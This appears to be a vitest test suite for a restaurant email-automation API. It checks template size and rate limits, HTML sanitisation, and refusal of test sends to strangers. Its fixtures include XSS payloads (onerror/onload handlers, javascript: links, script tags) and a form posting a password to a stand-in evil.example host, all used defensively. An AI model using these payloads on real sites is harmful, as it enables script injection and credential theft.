import { asc, eq, sql } from 'drizzle-orm';
import { afterEach, describe, expect, it } from 'vitest';
import { queryRows } from '../../src/server/db/client';
import { automations, automationVersions } from '../../src/server/db/schema';
import { MAX_VERSIONS_PER_AUTOMATION } from '../../src/server/features/automations/automations.service';
import { OWNER_RATE_LIMITS } from '../../src/server/lib/limits/rate-limit-rules';
import { clock } from '../../src/server/lib/runtime/clock';
import { hitRateLimit } from '../../src/server/lib/limits/rate-limit';
import { AUTOMATION_MESSAGES, MAX_TEMPLATE_HTML_BYTES, type TAutomation, type TAutomationsResponse } from '../../src/shared/schemas/automations';
import { createRestaurant, createSignedInOwner, createUser, signIn, uniqueEmail } from '../support/factories';
import type { TestAgent } from '../support/test-app';
import { useDinerSmtpContext } from './diner-support';

// Mails of this file leave through nodemailer to a real SMTP server: what a recipient receives.
const { ctx, smtp } = useDinerSmtpContext();
afterEach(() => clock.reset());

async function automationsOf(agent: TestAgent): Promise<TAutomation[]> {
  return ((await (await agent.get('/api/automations')).json()) as TAutomationsResponse).automations;
}
const TEMPLATE_SAVES = OWNER_RATE_LIMITS.automationTemplateSaves;
const byKey = (list: TAutomation[], key: string) => list.find((automation) => automation.key === key)!;

/** What must never reach a saved template or a received email. */
const ATTACK_HTML = [
  '<p>Bonjour {{first_name}}</p>',
  '<img src=x onerror="alert(1)">',
  '<a href="javascript:alert(document.cookie)">Cliquez</a>',
  '<a href=" JaVaScRiPt:alert(2)">Encore</a>',
  '<svg onload="alert(3)"><circle r="4"/></svg>',
  '<script>alert(4)</script>',
  '<iframe src="https://evil.example/"></iframe>',
  '<form action="https://evil.example/steal"><input name="password"></form>',
  '<table role="presentation"><tr><td style="color:#c2410c">Tableau gardé</td></tr></table>',
  '<a href="{{google_url}}">Laisser un avis</a> <a href="https://example.fr/menu">Menu</a> <a href="mailto:contact@example.fr">Écrire</a>',
  '<img src="https://example.fr/logo.png" alt="Logo">',
].join('\n');

/**
 * The same, as a save accepts it (issue 28's checks refuse a relative image and a javascript: link
 * outright): what is left is for the sanitiser.
 */
const SAVABLE_ATTACK_HTML = ATTACK_HTML.replace('<img src=x onerror="alert(1)">', '<img src="https://example.fr/x.png" alt="x" onerror="alert(1)">')
  .replace('<a href="javascript:alert(document.cookie)">Cliquez</a>', '')
  .replace('<a href=" JaVaScRiPt:alert(2)">Encore</a>', '');

function expectNoActiveContent(html: string) {
  expect(html).not.toMatch(/onerror|onload|javascript:|<script|<svg|<iframe|<form|<input|alert\(/i);
}

describe('template bounds', () => {
  it(`attack: endless saves keep ${MAX_VERSIONS_PER_AUTOMATION} versions — the oldest pruned in the save, the current never`, async () => {
    const { agent, restaurant } = await createSignedInOwner(ctx);
    const [automation] = await automationsOf(agent);
    // 60 earlier versions, dated AFTER the save below (a clock that moved back): the current must stay anyway.
    const later = new Date(clock.now().getTime() + 3600_000);
    await ctx.db.insert(automationVersions).values(
      Array.from({ length: 60 }, (_, n) => ({
        automationId: automation.id,
        restaurantId: restaurant.id,
        subject: `Ancienne ${n}`,
        html: `<p>${n}</p>`,
        source: 'html' as const,
        createdAt: new Date(later.getTime() + n * 1000),
      })),
    );
    const saved = await agent.put(`/api/automations/${automation.id}`, { subject: 'Actuelle', html: '<p>Actuelle</p>' });
    expect(saved.status).toBe(200);
    const rows = await ctx.db.select().from(automationVersions).where(eq(automationVersions.automationId, automation.id)).orderBy(asc(automationVersions.createdAt));
    expect(rows).toHaveLength(MAX_VERSIONS_PER_AUTOMATION);
    expect(rows.some((row) => row.subject === 'Actuelle')).toBe(true);
    // The 49 newest others stay: 'Ancienne 11' to 'Ancienne 59'; 0 to 10 are gone.
    expect(rows.filter((row) => row.subject.startsWith('Ancienne')).map((row) => row.subject)).toEqual(Array.from({ length: 49 }, (_, n) => `Ancienne ${n + 11}`));
    const [current] = await ctx.db.select().from(automations).where(eq(automations.id, automation.id));
    expect(current.config.subject).toBe('Actuelle');
  });

  it('attack: a template above 90 KB is refused with a French 400 naming its size (counted in bytes)', async () => {
    const { agent } = await createSignedInOwner(ctx);
    const [automation] = await automationsOf(agent);
    // 50,000 characters, 100,000 bytes in UTF-8.
    const accents = await agent.put(`/api/automations/${automation.id}`, { subject: 'Gros', html: `<p>${'é'.repeat(50_000)}</p>` });
    expect(accents.status).toBe(400);
    expect((await accents.json()).error.message).toMatch(/^Le contenu pèse 97,7 Ko : au-delà de 90 Ko, Gmail coupe l’email/);
    // Under the limit once framed: saved; one byte over the template limit: refused.
    const fits = `<p>${'x'.repeat(MAX_TEMPLATE_HTML_BYTES - 4096)}</p>`;
    expect((await agent.put(`/api/automations/${automation.id}`, { subject: 'Juste', html: fits })).status).toBe(200);
    expect((await agent.put(`/api/automations/${automation.id}`, { subject: 'Trop', html: `<p>${'x'.repeat(MAX_TEMPLATE_HTML_BYTES - 6)}</p>` })).status).toBe(400);
  });

  it('attack: javascript: links and relative images are refused at save, not silently dropped', async () => {
    const { agent } = await createSignedInOwner(ctx);
    const [automation] = await automationsOf(agent);
    const link = await agent.put(`/api/automations/${automation.id}`, { subject: 'Piège', html: '<a href=" JaVaScRiPt:alert(2)">Encore</a>' });
    expect(link.status).toBe(400);
    expect((await link.json()).error.message).toMatch(/^Le lien « Encore » \(ligne 1\) doit être une adresse complète en https:\/\//);
    expect((await agent.put(`/api/automations/${automation.id}`, { subject: 'Piège', html: '<img src=x onerror="alert(1)" alt="x">' })).status).toBe(400);
  });

  it('attack: saves past the per-restaurant limit answer 429 with Retry-After and a French message; another restaurant still saves', async () => {
    const { agent, restaurant } = await createSignedInOwner(ctx);
    const other = await createSignedInOwner(ctx);
    const [automation] = await automationsOf(agent);
    for (let n = 0; n < TEMPLATE_SAVES.limit - 1; n++) await hitRateLimit(ctx.db, TEMPLATE_SAVES, restaurant.id);
    expect((await agent.put(`/api/automations/${automation.id}`, { subject: 'Dernière', html: '<p>ok</p>' })).status).toBe(200);
    const refused = await agent.put(`/api/automations/${automation.id}`, { subject: 'De trop', html: '<p>non</p>' });
    expect(refused.status).toBe(429);
    expect(Number(refused.headers.get('retry-after'))).toBeGreaterThan(0);
    expect((await refused.json()).error.message).toBe(AUTOMATION_MESSAGES.savesLimited);
    // A restore is a save too.
    const [version] = await ctx.db.select().from(automationVersions).where(eq(automationVersions.automationId, automation.id)).limit(1);
    expect((await agent.post(`/api/automations/${automation.id}/versions/${version.id}/restore`, {})).status).toBe(429);
    const [otherAutomation] = await automationsOf(other.agent);
    expect((await other.agent.put(`/api/automations/${otherAutomation.id}`, { subject: 'Autre', html: '<p>ok</p>' })).status).toBe(200);
  });
});

describe('template HTML is sanitised', () => {
  it('attack: <img onerror>, javascript: links, <svg onload>, <script> are gone from a template saved in the text area', async () => {
    const { agent } = await createSignedInOwner(ctx);
    const [automation] = await automationsOf(agent);
    const saved = await agent.put(`/api/automations/${automation.id}`, { subject: 'Piège', html: SAVABLE_ATTACK_HTML });
    expect(saved.status).toBe(200);
    const [row] = await ctx.db.select().from(automations).where(eq(automations.id, automation.id));
    const versions = await ctx.db.select().from(automationVersions).where(eq(automationVersions.automationId, automation.id));
    for (const html of [((await saved.json()) as { automation: TAutomation }).automation.html, row.config.html, ...versions.map((version) => version.html)]) expectNoActiveContent(html);
    // What an email needs stays.
    expect(row.config.html).toContain('<td style="color:#c2410c">Tableau gardé</td>');
    expect(row.config.html).toContain('<a href="{{google_url}}">Laisser un avis</a>');
    expect(row.config.html).toContain('<a href="https://example.fr/menu">Menu</a>');
    expect(row.config.html).toContain('<a href="mailto:contact@example.fr">Écrire</a>');
    expect(row.config.html).toContain('<img src="https://example.fr/logo.png" alt="Logo" />');
  });

  it('attack: the same from the visual editor — its HTML and its design (reloaded into the editor) lose scripts and handlers', async () => {
    const { agent } = await createSignedInOwner(ctx);
    const [automation] = await automationsOf(agent);
    const design = {
      pages: [
        {
          component: {
            type: 'wrapper',
            components: [
              { tagName: 'img', attributes: { src: 'x', onerror: 'alert(1)' } },
              { type: 'link', attributes: { href: 'javascript:alert(2)' }, components: [{ type: 'textnode', content: 'Lien' }] },
              { tagName: 'script', content: 'alert(3)' },
              { type: 'text', components: '<svg onload="alert(4)"></svg><p>Texte</p>' },
              { type: 'link', attributes: { href: '{{google_url}}', title: 'Avis' } },
              { type: 'default', script: 'function () { alert(5); }', attributes: { id: 'bloc' } },
            ],
          },
        },
      ],
      styles: [],
    };
    const saved = await agent.put(`/api/automations/${automation.id}`, { subject: 'Éditeur', html: SAVABLE_ATTACK_HTML, design });
    expect(saved.status).toBe(200);
    const [row] = await ctx.db.select().from(automations).where(eq(automations.id, automation.id));
    expectNoActiveContent(row.config.html);
    const storedDesign = JSON.stringify(row.design);
    expectNoActiveContent(storedDesign);
    expect(storedDesign).toContain('{{google_url}}');
    expect(storedDesign).toContain('<p>Texte</p>');
    const editor = await (await agent.get(`/api/automations/by-key/${automation.key}`)).json();
    expectNoActiveContent(JSON.stringify(editor));
  });

  it('attack: a template stored before the allowlist reaches the inbox without them (sanitised at send)', async () => {
    const { agent, restaurant } = await createSignedInOwner(ctx, { restaurantName: 'Ancien Modèle' });
    const thanks = byKey(await automationsOf(agent), 'thanks_after_visit');
    // Written as an older version of the app stored it, without the save route's sanitiser.
    await ctx.db
      .update(automations)
      .set({ config: sql`jsonb_set(${automations.config}, '{html}', ${JSON.stringify(ATTACK_HTML)}::jsonb)` })
      .where(eq(automations.id, thanks.id));
    const response = await agent.post(`/api/automations/${thanks.id}/test`, { to: restaurant.contactEmail });
    expect(response.status).toBe(200);
    const mail = await smtp.waitFor((m) => m.envelope.to.includes(restaurant.contactEmail) && m.parsed.subject?.startsWith('[Test]') === true);
    const html = String(mail.parsed.html);
    expectNoActiveContent(html);
    expect(html).toContain('Tableau gardé');
    expect(html).toContain('Bonjour Camille');
  });
});

describe('test sends are not a relay', () => {
  it('attack: a test send to a stranger is refused in French and nothing leaves', async () => {
    const { agent } = await createSignedInOwner(ctx);
    const [automation] = await automationsOf(agent);
    const stranger = uniqueEmail('inconnu');
    const response = await agent.post(`/api/automations/${automation.id}/test`, { to: stranger });
    expect(response.status).toBe(400);
    expect((await response.json()).error.message).toBe('Les emails de test ne partent que vers l’adresse du restaurant ou la vôtre.');
    const queued = await queryRows<{ n: number | string }>(ctx.db, sql`select count(*) as n from pgboss.job where data->>'to' = ${stranger}`);
    expect(Number(queued[0].n)).toBe(0);
    expect(smtp.received.some((mail) => mail.envelope.to.includes(stranger))).toBe(false);
  });

  it('goes to the restaurant’s contact address or the signed-in member’s own, and only those', async () => {
    const member = await createUser(ctx, { email: uniqueEmail('membre') });
    const contact = uniqueEmail('contact-resto');
    const restaurant = await createRestaurant(ctx, { ownerId: member.id, contactEmail: contact, name: 'Deux Adresses' });
    const agent = await signIn(ctx, member.email);
    const [automation] = await automationsOf(agent);
    for (const to of [contact, member.email.toUpperCase()]) {
      const response = await agent.post(`/api/automations/${automation.id}/test`, { to });
      expect(response.status, to).toBe(200);
      await smtp.waitFor((m) => m.envelope.to.includes(to.toLowerCase()) && m.parsed.subject?.startsWith('[Test]') === true);
    }
    // Another restaurant's member is no address of this one.
    const outsider = await createSignedInOwner(ctx);
    expect((await agent.post(`/api/automations/${automation.id}/test`, { to: outsider.owner.email })).status).toBe(400);
    expect(restaurant.contactEmail).toBe(contact);
  });

  it('attack: text from the request never reaches the mail — fixed sample data, with the unsubscribe footer diners get', async () => {
    const { agent, restaurant } = await createSignedInOwner(ctx, { restaurantName: 'Pied De Page' });
    const nudge = byKey(await automationsOf(agent), 'review_nudge_3d');
    const response = await agent.post(`/api/automations/${nudge.id}/test`, {
      to: restaurant.contactEmail,
      data: { first_name: 'Gagnez 500e sur evil.example', comment: 'phishing' },
      subject: 'Votre compte est bloqué',
      html: '<a href="https://evil.example">Débloquer</a>',
    });
    expect(response.status).toBe(200);
    const mail = await smtp.waitFor((m) => m.envelope.to.includes(restaurant.contactEmail) && m.parsed.subject === '[Test] Camille, votre avis compte pour Pied De Page');
    const html = String(mail.parsed.html);
    expect(html).not.toMatch(/evil\.example|Gagnez|phishing|bloqué/);
    expect(html).toContain('Bonjour Camille');
    // The footer of a marketing email: the consent line, the unsubscribe link and the one-click headers.
    expect(html).toContain('Vous recevez cet email car vous avez accepté les offres du restaurant « Pied De Page ».');
    expect(html).toMatch(/href="http:\/\/localhost:3000\/u\/[^"]+"[^>]*>Se désinscrire<\/a>/);
    expect(mail.raw).toMatch(/^List-Unsubscribe-Post: List-Unsubscribe=One-Click\r?$/m);
    expect(mail.raw).toMatch(/^List-Unsubscribe:\s+<http:\/\/localhost:3000\/u\//m);
    // The link unsubscribes nobody.
    const link = /href="(http:\/\/localhost:3000\/u\/[^"]+)"/.exec(html)![1];
    expect((await ctx.agent().post(new URL(link).pathname, undefined)).status).toBe(200);
    const unsubscribed = await queryRows<{ n: number | string }>(ctx.db, sql`select count(*) as n from customers where unsubscribed_at is not null and restaurant_id = ${restaurant.id}`);
    expect(Number(unsubscribed[0].n)).toBe(0);
  });
});
